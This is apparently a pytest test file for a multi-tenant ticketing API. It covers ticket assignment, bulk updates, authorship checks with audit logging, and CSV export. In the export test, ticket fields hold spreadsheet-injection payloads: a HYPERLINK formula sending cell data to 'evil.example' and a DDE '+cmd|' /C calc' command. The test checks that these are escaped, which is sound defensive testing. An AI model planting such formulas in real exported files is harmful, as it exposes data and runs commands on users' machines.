"""Staff's work on tickets: given to colleagues, changed together, written down, taken out as a file."""

from __future__ import annotations

import csv
import io
from collections.abc import AsyncIterator
from pathlib import Path
from typing import Any

import httpx
import pytest

from app.auth.principal import Role
from app.keys.repository import KeyRepository
from app.keys.service import hash_key
from tests.app.serving import Served, served

ADMIN, PASSWORD = "the-first-admin-key", "correct horse battery"
TICKETS, PEOPLE = "/api/v1/tickets", "/api/v1/people"


@pytest.fixture
async def server(tmp_path: Path) -> AsyncIterator[Served]:
    async with served(tmp_path, api_key=ADMIN) as running:
        yield running


def client_of(server: Served, key: str = "") -> httpx.AsyncClient:
    headers = {"X-API-Key": key} if key else {"Sec-Fetch-Site": "same-origin"}
    return httpx.AsyncClient(base_url=server.address, headers=headers, timeout=60)


@pytest.fixture
async def admin(server: Served) -> AsyncIterator[httpx.AsyncClient]:
    async with client_of(server, ADMIN) as client:
        yield client


@pytest.fixture
async def rival(server: Served) -> AsyncIterator[httpx.AsyncClient]:
    """An administrator of another tenant."""
    await KeyRepository(server.container.base.database).create("rival", Role.ADMIN, "别家", hash_key("theirs"))
    server.container.keys.expire_copy()
    async with client_of(server, "theirs") as client:
        yield client


async def send(client: httpx.AsyncClient, method: str, path: str, body: Any = None, status: int = 200) -> Any:
    response = await client.request(method, path, json=body)
    assert response.status_code == status, response.text
    return response.json() if response.content else None


async def opened(client: httpx.AsyncClient, subject: str, **fields: Any) -> str:
    """The number of a new ticket."""
    number: str = (await send(client, "POST", TICKETS, {"subject": subject} | fields, 201))["number"]
    return number


def code(response: httpx.Response) -> tuple[int, str]:
    return response.status_code, response.json()["error"]["code"]


async def test_a_ticket_is_given_to_who_may_work_here_and_to_nobody_else(
    admin: httpx.AsyncClient, rival: httpx.AsyncClient
) -> None:
    people = {
        login: await send(admin, "POST", PEOPLE, {"login": login, "name": login.title(), "role": "agent"}, 201)
        for login in ("amy", "gone")
    }
    assert (await admin.put("/api/v1/agent/staff/by-key", json={"name": "老王"})).is_success
    await send(admin, "PATCH", f"{PEOPLE}/{people['gone']['id']}", {"disabled": True})
    team = (await send(admin, "POST", "/api/v1/agent/teams", {"name": "售后组"}, 201))["id"]
    assert (await rival.put("/api/v1/agent/staff/theirs", json={"name": "别家的"})).is_success
    their_team = (await send(rival, "POST", "/api/v1/agent/teams", {"name": "别家的组"}, 201))["id"]
    listed = await send(admin, "GET", f"{TICKETS}/assignees")
    assert listed["people"] == [{"id": "amy", "name": "Amy"}, {"id": "by-key", "name": "老王"}]
    assert listed["teams"] == [{"id": team, "name": "售后组"}]

    number = await opened(admin, "发票重开")
    for assignee in ("amy", "by-key", ""):
        given = await send(admin, "PATCH", f"{TICKETS}/{number}", {"assignee": assignee, "team": team})
        assert (given["assignee"], given["team"]) == (assignee, team)
    for refused, why in (
        ({"assignee": "gone"}, "assignee_not_found"),
        ({"assignee": "theirs"}, "assignee_not_found"),
        ({"assignee": "nobody"}, "assignee_not_found"),
        ({"team": their_team}, "team_not_found"),
    ):
        assert code(await admin.patch(f"{TICKETS}/{number}", json=refused)) == (404, why)
        assert code(await admin.post(f"{TICKETS}/bulk", json=refused | {"numbers": [number]})) == (404, why)
    ticket = await send(admin, "GET", f"{TICKETS}/{number}")
    assert (ticket["assignee"], ticket["team"], len(ticket["history"])) == ("", team, 4)


async def test_several_are_changed_in_one_request_that_tells_of_each(
    admin: httpx.AsyncClient, rival: httpx.AsyncClient
) -> None:
    first, second, closed = [await opened(admin, subject) for subject in ("一", "二", "三")]
    theirs = await opened(rival, "别家的工单")
    await send(admin, "POST", f"{TICKETS}/{closed}/transitions", {"to": "closed"})
    numbers = [first, second.lower(), closed, theirs, "TK000000000000", first]
    moved = await send(admin, "POST", f"{TICKETS}/bulk", {"numbers": numbers, "to": "in_progress", "note": "在办"})
    told = [(one["number"], one["code"], one["ticket"] and one["ticket"]["state"]) for one in moved["outcomes"]]
    assert told == [
        (first, "", "in_progress"),
        (second, "", "in_progress"),
        (closed, "invalid_transition", None),
        (theirs, "ticket_not_found", None),
        ("TK000000000000", "ticket_not_found", None),
    ]
    assert moved["changed"] == 2 and all(bool(one["message"]) == bool(one["code"]) for one in moved["outcomes"])
    assert (await send(rival, "GET", f"{TICKETS}/{theirs}"))["state"] == "open"
    rows = await send(admin, "POST", f"{TICKETS}/bulk", {"numbers": [first, closed], "priority": "urgent"})
    assert [one["ticket"]["priority"] for one in rows["outcomes"]] == ["urgent", "urgent"]
    for body in (
        {"numbers": [first]},
        {"numbers": [], "to": "closed"},
        {"numbers": [first] * 101, "to": "closed"},
        {"numbers": [first], "to": "closed", "priority": "low"},
    ):
        assert (await admin.post(f"{TICKETS}/bulk", json=body)).status_code == 422


async def test_who_is_signed_in_writes_in_their_own_name_and_it_is_in_the_audit_log(
    server: Served, admin: httpx.AsyncClient
) -> None:
    person = await send(admin, "POST", PEOPLE, {"login": "amy", "name": "小艾", "role": "agent"}, 201)
    number = await opened(admin, "发票重开", author="王姐")
    async with client_of(server) as amy:
        accepted = {"invitation": person["invitation"], "password": PASSWORD}
        await send(amy, "POST", "/api/v1/signin/invitation", accepted)
        await send(amy, "POST", f"{TICKETS}/{number}/comments", {"text": "<b>已核对</b>"}, 201)
        for path, body in (
            (f"{TICKETS}/{number}/comments", {"text": "x"}),
            (f"{TICKETS}/{number}/transitions", {"to": "closed"}),
            (f"{TICKETS}/bulk", {"numbers": [number], "to": "closed"}),
            (TICKETS, {"subject": "x"}),
        ):
            assert code(await amy.post(path, json=body | {"author": "王姐"})) == (403, "not_yourself")
    history = (await send(admin, "GET", f"{TICKETS}/{number}"))["history"]
    assert [(event["actor"], event["text"]) for event in history] == [("王姐", ""), ("amy", "<b>已核对</b>")]
    audit = await send(admin, "GET", "/api/v1/audit?action=comment_on_ticket&outcome=done")
    assert [(item["actor"], item["target"]) for item in audit["items"]] == [("小艾", {"number": number})]


async def test_the_file_holds_what_the_list_holds_and_no_formula(
    admin: httpx.AsyncClient, rival: httpx.AsyncClient
) -> None:
    formula = '=HYPERLINK("http://evil.example/?"&A1,"点我")'
    assert (await admin.put("/api/v1/agent/staff/a01", json={"name": "@SUM(1)"})).is_success
    number = await opened(admin, formula, description="+cmd|' /C calc'!A0", priority="high", category="complaint")
    await send(admin, "PATCH", f"{TICKETS}/{number}", {"assignee": "a01"})
    await opened(admin, "不在其中", priority="low")
    await opened(rival, "别家的工单", priority="high")
    response = await admin.get(f"{TICKETS}/export", params={"priority": "high", "sort": "newest"})
    assert response.headers["content-type"].startswith("text/csv")
    (row,) = csv.DictReader(io.StringIO(response.content.decode("utf-8-sig")))
    assert (row["number"], row["subject"], row["description"]) == (number, f"'{formula}", "'+cmd|' /C calc'!A0")
    assert (row["assignee"], row["assignee_name"], row["breached"]) == ("a01", "'@SUM(1)", "0")
